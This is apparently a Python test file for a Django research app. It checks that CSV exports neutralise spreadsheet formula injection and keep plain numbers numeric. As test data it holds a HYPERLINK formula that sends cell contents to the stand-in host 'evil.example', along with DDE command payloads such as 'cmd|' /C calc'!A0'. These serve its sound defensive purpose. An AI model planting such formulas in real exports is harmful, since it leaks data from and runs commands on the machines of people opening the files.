"""Spreadsheet formula injection (issue 13, point 9): text written to a CSV never starts
a formula. ``metadata.csv`` of ``export_studies`` carries study descriptions and cohort
columns, i.e. text from uploaded files and research lists; a cell ``=HYPERLINK(…)`` would
run when the file is opened in a spreadsheet. Text cells starting with = + - @ tab CR LF
get a leading ``'`` (OWASP); numbers — and text that is a plain number, e.g. ``-5`` —
stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.utils import timezone

from tests.conftest import REPO
from tests.reports.factories import make_study
from uploads.sharing import exports

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the scan")'
DANGEROUS = re.compile(r"^[=+\-@\t\r\n]")
NUMBER = re.compile(r"[+-]?[\d.]+([eE][+-]?\d+)?")


def test_export_studies_metadata_has_no_formula(patient: Any, tmp_path: Path) -> None:
    study = make_study(patient, instances=1, description=HYPERLINK,
                       patient_pseudonym="@SUM(1+1)*cmd|' /C calc'!A0")  # fmt: skip
    since = (timezone.now() - timedelta(days=1)).date().isoformat()
    out = io.StringIO()
    call_command("export_studies", "--since", since, "--out", str(tmp_path), stdout=out)
    assert json.loads(out.getvalue().splitlines()[0])["file"]
    rows = list(csv.DictReader((tmp_path / "metadata.csv").open(newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["study"] == str(study.pk)  # a number, as it was
    assert row["description"] == "'" + HYPERLINK  # the text kept, made inert
    assert row["pseudonym"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not [value for value in row.values() if DANGEROUS.match(value)]


def test_csv_cells_text_is_neutralised_numbers_stay(tmp_path: Path) -> None:
    """The cohort's own columns (text from a research list, header names included)."""
    rows = [
        {"study": 7, "pseudonym": "P-1", "age": "-5", "description": "-2+3",
         "=evil": "\t=1+1", "score": -0.5, "note": "+cmd|' /C calc'!A0", "when": "\r@x"},
        {"study": 8, "pseudonym": "P-2", "age": "+12", "description": "Tumour - left",
         "=evil": "1e-3", "score": 3, "note": "", "when": "2024-01-01"},
    ]  # fmt: skip
    text = exports.csv_text(rows, ["=evil", "score", "note", "when"])
    table = list(csv.reader(io.StringIO(text)))
    header, first, second = table
    assert header[-4:] == ["'=evil", "score", "note", "when"]
    assert first[0] == "7" and second[0] == "8"  # ints stay numbers
    cells = dict(zip(header, first, strict=True))
    assert cells["age"] == "-5" and cells["score"] == "-0.5"  # plain numbers stay numbers
    assert cells["description"] == "'-2+3"  # a formula, not a number
    assert cells["'=evil"] == "'\t=1+1" and cells["note"] == "'+cmd|' /C calc'!A0"
    assert cells["when"] == "'\r@x"
    cells = dict(zip(header, second, strict=True))
    assert cells["age"] == "+12" and cells["'=evil"] == "1e-3" and cells["score"] == "3"
    assert cells["description"] == "Tumour - left" and cells["when"] == "2024-01-01"
    formulas = [v for row in table for v in row if DANGEROUS.match(v) and not NUMBER.fullmatch(v)]
    assert formulas == []


def test_every_csv_writer_goes_through_the_helper() -> None:
    """No module writes CSV with the csv module directly, but portal/spreadsheet.py."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(REPO))
        for folder in ("portal", "uploads", "reports", "scripts", "bench")
        for path in (REPO / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
        and path != REPO / "portal" / "spreadsheet.py"
    ]
    assert offenders == []
